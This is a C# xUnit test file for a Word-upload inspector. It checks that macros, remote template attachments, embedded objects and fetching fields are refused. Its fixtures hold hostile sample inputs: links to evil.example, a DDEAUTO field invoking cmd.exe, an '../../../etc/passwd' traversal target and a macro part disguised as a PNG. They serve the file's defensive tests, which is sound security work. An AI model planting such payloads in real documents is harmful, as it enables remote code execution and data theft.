using AllianceAgreements.Documents.Tests.Packages;
using AllianceAgreements.Documents.Uploads;
using AllianceAgreements.Domain.Ports;
using CsCheck;
using Xunit;

namespace AllianceAgreements.Documents.Tests.Uploads;

public sealed class WordInspectionTests
{
    private const string Office = "application/vnd.openxmlformats-officedocument.";

    [Fact]
    public void Inspect_WordDocument_IsAccepted() => Assert.Equal(new UploadInspection.Accepted(UploadKind.Docx), Inspect(new WordFile()));

    [Fact]
    public void Inspect_Hyperlinks_AreAccepted() =>
        Assert.Equal(new UploadInspection.Accepted(UploadKind.Docx), Inspect(new WordFile().WithLink("hyperlink", "https://example.org/", external: true)));

    [Theory]
    [InlineData("application/vnd.ms-word.document.macroEnabled.main+xml", "macros (.docm)")]
    [InlineData("application/vnd.ms-word.template.macroEnabledTemplate.main+xml", "macros (.docm)")]
    [InlineData(Office + "wordprocessingml.template.main+xml", "Word template (.dotx)")]
    [InlineData(Office + "spreadsheetml.sheet.main+xml", "Excel workbook")]
    [InlineData(Office + "presentationml.presentation.main+xml", "PowerPoint presentation")]
    [InlineData("application/xml", "the document itself is missing")]
    public void Inspect_OtherKindOfPackage_IsNamed(string type, string reason) => AssertRefused(new WordFile { MainContentType = type }, reason);

    [Theory]
    [InlineData("attachedTemplate", "attached to a template")]
    [InlineData("image", "stored outside")]
    [InlineData("oleObject", "content outside")]
    [InlineData("frame", "content outside")]
    [InlineData("subDocument", "content outside")]
    public void Inspect_ContentOutside_IsRefused(string kind, string reason) =>
        AssertRefused(new WordFile().WithLink(kind, "http://evil.example/t.dotm", external: true), reason);

    [Fact]
    public void Inspect_TargetThatLeavesThePackage_IsRefused() =>
        AssertRefused(new WordFile().WithLink("image", "../../../etc/passwd"), "stored outside");

    [Fact]
    public void Inspect_ContentOutsideOfAnotherPart_IsRefused() =>
        AssertRefused(new WordFile().With("word/_rels/settings.xml.rels",
            "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
            + "<Relationship Id=\"a\" Type=\"x/attachedTemplate\" Target=\"http://evil.example/\" TargetMode=\"External\"/></Relationships>"), "attached to a template");

    [Theory]
    [InlineData("vbaProject", "macros")]
    [InlineData("oleObject", "another file")]
    [InlineData("package", "another file")]
    [InlineData("aFChunk", "another file")]
    [InlineData("control", "controls")]
    public void Inspect_EmbeddedThings_AreRefused(string kind, string reason) =>
        AssertRefused(new WordFile().With("word/thing.bin", "x").WithLink(kind, "thing.bin"), reason);

    [Theory]
    [InlineData("<w:fldSimple w:instr=\"INCLUDETEXT&quot;http://evil.example/x.docx&quot;\"/>", "INCLUDETEXT")]
    [InlineData("<w:fldSimple w:instr=\" DDEAUTO c:\\\\cmd.exe x \"/>", "DDEAUTO")]
    [InlineData("<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE \"http://evil.example/a.png\" \\d</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>", "INCLUDEPICTURE")]
    [InlineData("<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>QUOTE </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>link Excel.Sheet \"http://evil.example/\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>", "LINK")]
    [InlineData("<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>includetext \"\\\\host\\share\\x.docx\"</w:instrText></w:r>", "INCLUDETEXT")]
    public void Inspect_FieldThatFetchesFromOutside_IsRefused(string content, string keyword)
    {
        AssertRefused(new WordFile { Body = $"<w:p>{content}</w:p>" }, $"({keyword})");
        AssertRefused(new WordFile { Footnotes = $"<w:footnote w:id=\"1\"><w:p>{content}</w:p></w:footnote>" }, $"({keyword})");
    }

    [Fact]
    public void Inspect_FieldsOfTheDocumentItself_AreAccepted() => Assert.Equal(new UploadInspection.Accepted(UploadKind.Docx), Inspect(new WordFile
    {
        Body = "<w:p><w:fldSimple w:instr=\" PAGE \"/><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> REF link \\h </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>",
    }));

    [Fact]
    public void Inspect_MacroPartUnderAnotherName_IsRefused() =>
        AssertRefused(new WordFile().With("word/media/logo.png", "x").WithLink("vbaProject", "media/logo.png"), "macros");

    [Fact]
    public void Inspect_MacroPartWithoutARelationship_IsRefused() => AssertRefused(new WordFile().With("word/vbaProject.bin", "x"), "macros");

    [Theory]
    [InlineData("<w:p>")]
    [InlineData("<!DOCTYPE a><w:p/>")]
    [InlineData("&nbsp;")]
    public void Inspect_BodyThatIsNotXml_IsRefused(string body) => AssertRefused(new WordFile { Body = body }, "not well-formed");

    [Fact]
    public void Inspect_DocumentPartOfAnotherKind_IsRefused() =>
        Assert.Contains("holds no document", Refused(new WordFile().With("word/other.xml", "<html/>").ToBytes(mainPart: "word/other.xml")), StringComparison.Ordinal);

    [Fact]
    public void Inspect_DocumentPartMissing_IsRefused() =>
        Assert.Contains("the document itself is missing", Refused(new WordFile().ToBytes(mainPart: "word/none.xml")), StringComparison.Ordinal);

    [Fact]
    public void Inspect_AnyByteChangedOrCut_NeverThrowsAndNoCutIsAccepted()
    {
        var valid = new WordFile { Styles = "", Numbering = "" }.WithLink("hyperlink", "https://example.org/", external: true).ToBytes();
        Gen.Select(Gen.Int[0, valid.Length - 1], Gen.Byte).Sample((position, value) =>
        {
            var damaged = (byte[])valid.Clone();
            damaged[position] = value;
            Assert.NotNull(new UploadInspector().Inspect(damaged));
            Assert.NotEmpty(Refused(valid[..position]));
        }, iter: 5_000);
    }

    private static UploadInspection Inspect(WordFile file) => new UploadInspector().Inspect(file.ToBytes());

    private static string Refused(byte[] content) => Assert.IsType<UploadInspection.Refused>(new UploadInspector().Inspect(content)).Message;

    private static void AssertRefused(WordFile file, string reason) => Assert.Contains(reason, Refused(file.ToBytes()), StringComparison.Ordinal);
}
